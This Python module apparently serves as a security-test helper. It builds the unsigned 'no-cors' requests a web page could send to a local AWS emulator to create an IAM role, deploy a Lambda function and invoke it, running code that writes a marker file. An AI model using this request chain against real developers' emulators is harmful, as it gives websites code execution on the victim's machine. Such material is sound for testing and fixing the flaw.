"""What a web page sends to the laptop stack's emulator to run code as the person who started it.

A page may send these requests to any address without asking ("no-cors"): it sets no headers, and puts credentials
into the query. The emulator takes the access key `test` for the account's owner, and checks no signature.
"""

import base64
import io
import json
import zipfile
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlencode

ROLE = "attacker"
FUNCTION = "attack"
TRUST = {
    "Version": "2012-10-17",
    "Statement": [
        {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
    ],
}


@dataclass(frozen=True)
class Sent:
    """A POST request: its path with the query, and its body."""

    path: str
    body: str


def run_code(marker: Path) -> list[Sent]:
    """CreateRole, CreateFunction and Invoke of a function that writes the file `marker`."""
    code = f"import pathlib\ndef handler(event, context):\n    pathlib.Path({str(marker)!r}).write_text('taken')\n"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("index.py", code)
    role = {
        "Action": "CreateRole",
        "Version": "2010-05-08",
        "RoleName": ROLE,
        "AssumeRolePolicyDocument": json.dumps(TRUST),
    }
    function = {
        "FunctionName": FUNCTION,
        "Runtime": "python3.13",
        "Handler": "index.handler",
        "Role": f"arn:aws:iam::000000000000:role/{ROLE}",
        "Code": {"ZipFile": base64.b64encode(packed.getvalue()).decode()},
    }
    functions = "/2015-03-31/functions"
    return [
        Sent(f"/?{credential('iam')}&{urlencode(role)}", ""),
        Sent(f"{functions}?{credential('lambda')}", json.dumps(function)),
        Sent(f"{functions}/{FUNCTION}/invocations?{credential('lambda')}", "{}"),
    ]


def credential(service: str, key: str = "test") -> str:
    """The query of a request that names an access key and is not signed."""
    scope = f"{key}/20261101/us-east-1/{service}/aws4_request"
    return urlencode({"X-Amz-Algorithm": "AWS4-HMAC-SHA256", "X-Amz-Credential": scope})


RESET = Sent("/_ministack/reset", "")
